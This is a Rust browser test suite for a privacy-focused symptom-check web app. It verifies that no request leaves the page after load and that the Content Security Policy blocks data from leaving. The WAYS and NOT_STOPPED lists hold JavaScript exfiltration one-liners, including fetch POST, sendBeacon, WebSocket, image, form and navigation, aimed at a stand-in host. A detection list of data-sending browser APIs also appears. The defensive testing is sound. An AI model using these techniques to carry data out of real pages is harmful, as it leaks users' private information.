//! What a person enters stays in the browser: everything the browser sends is written down by a recorder between it and
//! the network, and there is nothing but the files of this site, asked for while it loads. The recorder is shown to see
//! each way out that a page has, and the page's policy to close them; what no policy closes is named here too.

use crate::diary;
use crate::harness::axe::findings_in_all_themes;
use crate::harness::check::Check;
use crate::harness::chromium::Kind;
use crate::harness::page::Page;
use crate::harness::plan::Plan;
use crate::harness::print::{Paper, print};
use crate::harness::recorder::{Recorder, Request};
use crate::harness::result::verdict;
use crate::harness::{PHONE, dist, in_browser, scratch};
use quiet_legs::content::{Block, PARTS};
use serde_json::json;
use std::path::Path;

/// A Chromium whose every request is written down.
fn recorded(test: impl AsyncFnOnce(&Page, &Recorder)) {
    let recorder = Recorder::listen();
    in_browser(PHONE.of_kind(Kind::Recorded(recorder.port())), async |page| {
        page.go("about:blank").await;
        recorder.begin().await;
        test(page, &recorder).await;
    });
}

/// What was sent, one line each.
fn lines(sent: &[Request]) -> Vec<String> {
    sent.iter().map(|request| format!("{} {}", request.method, request.url)).collect()
}

/// Each is one of the built files, asked for by its bare name: nothing of a person could be in it.
fn are_files_of_the_site(page: &Page, sent: &[Request]) {
    let home = page.site.url("/");
    assert!(sent.len() > 8, "the whole site was loaded: {:?}", lines(sent));
    for request in sent {
        let line = format!("{} {}", request.method, request.url);
        let name = request.url.strip_prefix(&home).unwrap_or_else(|| panic!("{line} is not for this site"));
        let file = dist(false).join(if name.is_empty() { "index.html" } else { name });
        assert!(file.is_file(), "{line} is no file of the site");
        assert!(request.method == "GET" && request.body.is_empty(), "{line} carries something");
        for never in ["cookie", "referer", "authorization"] {
            assert_eq!(request.header(never), None, "{line} says {never}");
        }
    }
}

/// Goes to a screen without loading anything, and waits for something on it.
async fn go(page: &Page, hash: &str, css: &str) {
    page.js_with("location.hash = arguments[0]", vec![json!(hash)]).await;
    page.see(css).await;
}

/// Taps a button that saves a file, and waits until the browser has saved it.
async fn saves(page: &Page, folder: &Path, css: &str) {
    let files = || std::fs::read_dir(folder).expect("the downloads").flatten().map(|file| file.path());
    let done = || files().filter(|file| file.extension().is_some_and(|ending| ending != "crdownload")).count();
    let before = done();
    page.click(css).await;
    for _ in 0..400 {
        if done() > before {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    panic!("{css} saved no file");
}

/// Every way out that leaves a file, and a page on paper.
async fn every_way_out(page: &Page) {
    let folder = scratch("downloads").join(std::process::id().to_string());
    drop(std::fs::remove_dir_all(&folder));
    std::fs::create_dir_all(&folder).expect("a folder for downloads");
    let to = json!({"behavior": "allow", "downloadPath": folder});
    page.devtools("Browser.setDownloadBehavior", to).await;
    for (hash, css) in [
        ("#/data", "#save-copy"),
        ("#/data", "#save-table"),
        ("#/report", "#save-page"),
        ("#/report/record", "#save-record"),
        ("#/report/reminders", "#save-evenings"),
    ] {
        go(page, hash, css).await;
        saves(page, &folder, css).await;
    }
    go(page, "#/report/code", "main svg.ql-code").await;
    go(page, "#/report", ".ql-report").await;
    assert!(print(page, Paper::A4).await.says("ertraline"), "the page for the doctor is on paper");
}

#[test]
fn a_whole_check_a_night_and_every_way_out_send_nothing_once_the_site_has_loaded() {
    recorded(async |page, recorder| {
        let check = Check::open(page).await;
        page.network_settles().await;
        are_files_of_the_site(page, &recorder.take());
        check.start().await;
        check.answer_until(&Plan::fits().takes("sertral", "Sertraline").ferritin("18"), "answers").await;
        check.continue_().await;
        assert!(verdict(page).await.starts_with("Your answers match"));
        go(page, "#/diary", diary::SAVE).await;
        diary::strength(page, 6).await;
        page.type_into("#lost", "40").await;
        diary::save(page).await;
        go(page, "#/trends", "main .ql-lead").await;
        go(page, "#/plan", "main h1").await;
        go(page, "#/learn/privacy", "main code").await;
        every_way_out(page).await;
        page.network_settles().await;
        assert_eq!(lines(&recorder.take()), Vec::<String>::new(), "something was sent after the load");
        names_are_told(page).await;
    });
}

/// Every name in the stores of the browser is one that the page about privacy tells; other stores are empty.
async fn names_are_told(page: &Page) {
    let blocks = PARTS.iter().filter(|part| part.topic == "privacy").flat_map(|part| &part.blocks);
    let told: Vec<&str> =
        blocks.filter_map(|block| if let Block::Code(code, _) = block { Some(*code) } else { None }).collect();
    let names = page.js("return [...Object.keys(localStorage), ...Object.keys(sessionStorage)]").await;
    let names: Vec<&str> = names.as_array().into_iter().flatten().filter_map(|name| name.as_str()).collect();
    assert!(names.contains(&"quiet-legs.check") && names.len() > 2, "{names:?}");
    for name in names {
        let is_told = |told: &&str| name == *told || told.ends_with('.') && name.starts_with(told);
        assert!(told.iter().any(|told| is_told(&told)), "{name} is kept, and the page about privacy does not say so");
    }
    let others = "return (async () => [document.cookie, (await indexedDB.databases()).length,
        (await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length])()";
    assert_eq!(page.js(others).await, json!(["", 0, 0, 0]));
}

/// Ways for a script to carry something away, each to a host of its own name.
const WAYS: [(&str, &str); 15] = [
    ("fetch", "fetch(to, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {})"),
    ("request", "const r = new XMLHttpRequest(); r.open('GET', to); r.send()"),
    ("beacon", "navigator.sendBeacon(to, 'secret')"),
    ("socket", "new WebSocket(to.replace('http', 'ws'))"),
    ("events", "new EventSource(to)"),
    ("picture", "new Image().src = to"),
    ("media", "Object.assign(new Audio(), { src: to }).load()"),
    ("font", "new FontFace('away', `url(${to})`).load().catch(() => {})"),
    ("script", "add('script', { src: to })"),
    ("style", "add('link', { rel: 'stylesheet', href: to })"),
    ("frame", "add('iframe', { src: to })"),
    ("object", "add('object', { data: to })"),
    ("prefetch", "add('link', { rel: 'prefetch', href: to })"),
    ("ping", "add('a', { href: '#', ping: to }).click()"),
    ("form", "add('iframe', { name: 'sink' }); add('form', { action: to, target: 'sink' }).submit()"),
];

/// What no policy of today's browsers stops: going to another page, and being ready to.
const NOT_STOPPED: [(&str, &str); 2] = [
    ("ready", "add('link', { rel: 'preconnect', href: to.replace('http:', 'https:') })"),
    ("leaving", "location.href = to"),
];

/// Tries one way, from a script of the page in front.
async fn tries(page: &Page, name: &str, way: &str) {
    let script = format!(
        "const to = 'http://{name}.elsewhere.test/';
        const add = (tag, with_) => {{
            const made = Object.assign(document.createElement(tag), with_);
            document.body.append(made);
            return made;
        }};
        try {{ {way} }} catch {{}}"
    );
    page.js(&script).await;
}

/// Waits until the recorder saw this host, or gives up; a way that is closed is given half a second in all.
async fn hosts(recorder: &Recorder, wanted: &[&str]) -> Vec<String> {
    let mut seen: Vec<String> = Vec::new();
    for _ in 0..100 {
        let of = |request: &Request| wanted.iter().find(|name| request.url.contains(&format!("{name}.elsewhere.test")));
        seen.extend(recorder.take().iter().filter_map(of).map(|name| (*name).to_owned()));
        if wanted.iter().all(|name| seen.iter().any(|seen| seen == name)) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    seen
}

fn expect_refusals(page: &Page) {
    for part in ["elsewhere.test", "Content Security Policy", "Trusted", "status of 403"] {
        page.expect_in_log(part);
    }
}

#[test]
fn the_recorder_sees_every_way_out_of_a_page_without_a_policy() {
    recorded(async |page, recorder| {
        expect_refusals(page);
        page.put_and_open("/free.html", "<p>No policy here.</p>").await;
        for (name, way) in WAYS.iter().chain(&NOT_STOPPED) {
            tries(page, name, way).await;
            assert!(hosts(recorder, &[name]).await.contains(&(*name).to_owned()), "{name} was not seen");
        }
    });
}

#[test]
fn the_policy_stops_every_way_out_but_opening_another_page() {
    recorded(async |page, recorder| {
        expect_refusals(page);
        Check::open(page).await;
        page.network_settles().await;
        drop(recorder.take());
        for (name, way) in WAYS {
            tries(page, name, way).await;
        }
        page.network_settles().await;
        assert_eq!(lines(&recorder.take()), Vec::<String>::new(), "the policy let something out");
        assert!(page.js("return violations.length").await.as_u64() >= Some(WAYS.len() as u64 / 2));
        for (name, way) in NOT_STOPPED {
            tries(page, name, way).await;
            assert_eq!(hosts(recorder, &[name]).await.first().map(String::as_str), Some(name), "stopped after all");
        }
        page.go("about:blank").await;
    });
}

/// What could send or keep something that the recorder, or the page about privacy, would not show.
const UNKNOWN_TO_US: [&str; 11] = [
    "RTCPeerConnection",
    "WebTransport",
    "WebSocket",
    "EventSource",
    "XMLHttpRequest",
    "sendBeacon",
    "document.cookie",
    "cookieStore",
    "indexedDB",
    "BroadcastChannel",
    "serviceWorker",
];

#[test]
fn the_programs_of_the_site_name_no_other_way_to_send_or_keep_anything() {
    let files = std::fs::read_dir(dist(false)).expect("the built site").flatten().map(|file| file.path());
    let programs: Vec<_> =
        files.filter(|file| file.extension().is_some_and(|ending| ending == "js" || ending == "wasm")).collect();
    assert!(programs.len() >= 6, "{programs:?}");
    for file in programs {
        let bytes = std::fs::read(&file).expect("a program");
        for word in UNKNOWN_TO_US {
            let named = bytes.windows(word.len()).any(|part| part == word.as_bytes());
            assert!(!named, "{} names {word}", file.display());
        }
    }
}

#[test]
fn the_pages_about_privacy_are_reached_from_the_start_and_the_data_and_axe_finds_nothing() {
    in_browser(PHONE, async |page| {
        let check = Check::open(page).await;
        let link = "a[href='#/learn/privacy']";
        page.click(&format!(".ql-notes {link}")).await;
        page.see("main code").await;
        check.open_start().await;
        check.to_data().await;
        page.click(&format!("main {link}")).await;
        page.see("main code").await;
        for id in ["privacy", "privacy-notice"] {
            Check::open_at(page, &format!("/#/learn/{id}")).await;
            page.see("main section").await;
            assert_eq!(findings_in_all_themes(page, id).await, Vec::<String>::new());
            page.open(&format!("/learn/{id}.html")).await;
            assert_eq!(findings_in_all_themes(page, id).await, Vec::<String>::new());
            let wide = "return document.documentElement.scrollWidth <= innerWidth";
            page.width(320).await;
            assert_eq!(page.js(wide).await, json!(true), "{id} scrolls sideways at 320 px");
        }
    });
}
